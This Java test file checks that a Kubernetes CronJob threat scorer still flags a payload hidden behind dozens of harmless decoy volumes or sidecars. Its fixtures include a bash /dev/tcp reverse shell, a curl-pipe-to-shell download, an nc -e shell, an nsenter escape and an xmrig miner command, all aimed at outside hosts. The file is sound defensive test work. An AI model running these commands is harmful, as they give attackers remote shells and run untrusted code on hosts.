package dev.cronsentinel.score;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.model.ContainerSpec;
import dev.cronsentinel.model.EventRole;
import dev.cronsentinel.model.PodTemplate;
import dev.cronsentinel.model.ScoredEvent;
import dev.cronsentinel.model.Signal;
import dev.cronsentinel.model.VolumeSpec;
import dev.cronsentinel.model.WorkloadEvent;
import java.util.ArrayList;
import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;

/**
 * Issue 16, row 1: harmless decoy findings in front of a payload never lower its score. The scorer used to keep
 * the first 64 signals and score only those, so 64 {@code hostPath /tmp/...} volumes (pod-level, evaluated
 * before any container) or 64 {@code pause} sidecars with {@code allowPrivilegeEscalation: true} hid a
 * reverse shell after them. Now the score counts every signal and only the evidence list is cut.
 */
class DecoyPaddingTest {
    private static final Scorer SCORER = ScorerTest.SCORER;
    private static final String REVERSE_SHELL = "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1";

    static ContainerSpec container(int i, String image, List<String> command, Boolean privileged, Boolean escalation, Long runAsUser) {
        return new ContainerSpec("spec.containers[" + i + "]", "c" + i, image, command, List.of(), List.of(), privileged, escalation,
                runAsUser, null, List.of(), List.of());
    }

    static WorkloadEvent cronJob(List<ContainerSpec> containers, List<VolumeSpec> volumes) {
        PodTemplate t = new PodTemplate("requestObject", "spec", null, null, null, null, null, containers, volumes);
        return new WorkloadEvent("a1", 0L, "t", "create", "cronjobs", "ns", "cj", null, "mallory", List.of(), "ua", "1.2.3.4",
                201, "allow", "RequestResponse", false, null, null, null, null, "* * * * *", null, null, false, false, List.of(t), "o");
    }

    static ContainerSpec payload(int index) {
        return container(index, "registry.example.com/app:1", List.of("sh", "-c", REVERSE_SHELL), null, null, null);
    }

    static ScoredEvent score(WorkloadEvent e) {
        return SCORER.score(e, EventRole.WORKLOAD);
    }

    @Test
    void sixtyFourTmpHostPathsBeforeTheShellDoNotHideIt() {
        List<VolumeSpec> decoys = new ArrayList<>();
        for (int i = 0; i < 64; i++) {
            decoys.add(new VolumeSpec("spec.volumes[" + i + "]", "tmp" + i, "/tmp/cache-" + i));
        }
        ScoredEvent clean = score(cronJob(List.of(payload(0)), List.of()));
        ScoredEvent padded = score(cronJob(List.of(payload(0)), decoys));
        assertThat(clean.alertable()).isTrue();
        assertThat(padded.alertable()).isTrue();
        assertThat(padded.score()).isGreaterThanOrEqualTo(clean.score());
        assertThat(padded.signals()).extracting(Signal::rule).contains("reverse-shell-dev-tcp", "interactive-shell");
        assertThat(padded.signals()).hasSizeLessThanOrEqualTo(Scorer.MAX_EVIDENCE);
        Signal last = padded.signals().get(padded.signals().size() - 1);
        assertThat(last.id()).isEqualTo(Signals.EVIDENCE_TRUNCATED);
        assertThat(last.weight()).isZero();
        int listed = padded.signals().size() - 1;
        int all = 64 + clean.signals().size();
        assertThat(last.value()).startsWith((all - listed) + " more signals not listed");
    }

    @Test
    void sixtyFourPauseSidecarsBeforeTheShellDoNotHideIt() {
        List<ContainerSpec> containers = new ArrayList<>();
        for (int i = 0; i < 64; i++) {
            containers.add(container(i, "registry.k8s.io/pause:3.9", List.of(), null, true, null));
        }
        containers.add(payload(64));
        ScoredEvent padded = score(cronJob(containers, List.of()));
        assertThat(padded.alertable()).isTrue();
        assertThat(padded.score()).isEqualTo(score(cronJob(List.of(payload(0)), List.of())).score()
                + SCORER.rules().weights().get(Signals.PRIVILEGE_ESCALATION));
        // The evidence list keeps the highest weights and the score is still the total of what it lists.
        assertThat(Scorer.total(padded.signals())).isEqualTo(padded.score());
    }

    @Property
    void decoyPaddingNeverLowersAPayloadsScore(@ForAll("payloads") ContainerSpec payloadSpec,
            @ForAll("decoyContainers") List<ContainerSpec> decoyContainers, @ForAll("decoyVolumes") List<VolumeSpec> decoyVolumes,
            @ForAll boolean payloadLast) {
        ScoredEvent alone = score(cronJob(List.of(payloadSpec), List.of()));
        List<ContainerSpec> containers = new ArrayList<>();
        if (!payloadLast) {
            containers.add(payloadSpec);
        }
        for (int i = 0; i < decoyContainers.size(); i++) {
            ContainerSpec d = decoyContainers.get(i);
            containers.add(new ContainerSpec("spec.containers[" + (i + 1) + "]", d.name(), d.image(), d.command(), d.args(), d.env(),
                    d.privileged(), d.allowPrivilegeEscalation(), d.runAsUser(), d.runAsNonRoot(), d.capabilitiesAdd(), d.mounts()));
        }
        if (payloadLast) {
            containers.add(payloadSpec);
        }
        ScoredEvent padded = score(cronJob(containers, decoyVolumes));
        assertThat(padded.score()).isGreaterThanOrEqualTo(alone.score());
        if (alone.alertable()) {
            assertThat(padded.alertable()).isTrue();
        }
        assertThat(padded.signals()).hasSizeLessThanOrEqualTo(Scorer.MAX_EVIDENCE);
        assertThat(Scorer.total(padded.signals())).isEqualTo(padded.score());
    }

    @Provide
    Arbitrary<ContainerSpec> payloads() {
        Arbitrary<String> line = Arbitraries.of(REVERSE_SHELL, "curl -fsSL http://203.0.113.9/x | sh", "nc -e /bin/sh 198.51.100.7 4444",
                "nsenter -t 1 -m -u -i -n sh", "xmrig -o stratum+tcp://pool.example:3333", "sleep 3600");
        Arbitrary<Boolean> flag = Arbitraries.of(Boolean.TRUE, Boolean.FALSE, null);
        Arbitrary<String> image = Arbitraries.of("alpine:3.19", "kalilinux/kali-rolling", "registry.example.com/app:1");
        return Combinators.combine(line, flag, image).as((l, privileged, img) ->
                container(0, img, List.of("sh", "-c", l), privileged, null, null));
    }

    @Provide
    Arbitrary<List<ContainerSpec>> decoyContainers() {
        Arbitrary<ContainerSpec> decoy = Arbitraries.integers().between(0, 3).map(kind -> switch (kind) {
            case 0 -> container(0, "registry.k8s.io/pause:3.9", List.of(), null, true, null);
            case 1 -> container(0, "registry.example.com/sidecar:2", List.of(), null, null, 0L);
            case 2 -> container(0, "busybox", List.of("sh", "-c", "sleep 30"), null, null, null);
            default -> container(0, "python:3.12", List.of("python", "-c", "print(1)"), null, null, null);
        });
        return decoy.list().ofMaxSize(100);
    }

    @Provide
    Arbitrary<List<VolumeSpec>> decoyVolumes() {
        return Arbitraries.integers().between(0, 1000).map(i -> new VolumeSpec("spec.volumes[" + i + "]", "v" + i, "/tmp/d" + i))
                .list().ofMaxSize(100);
    }
}
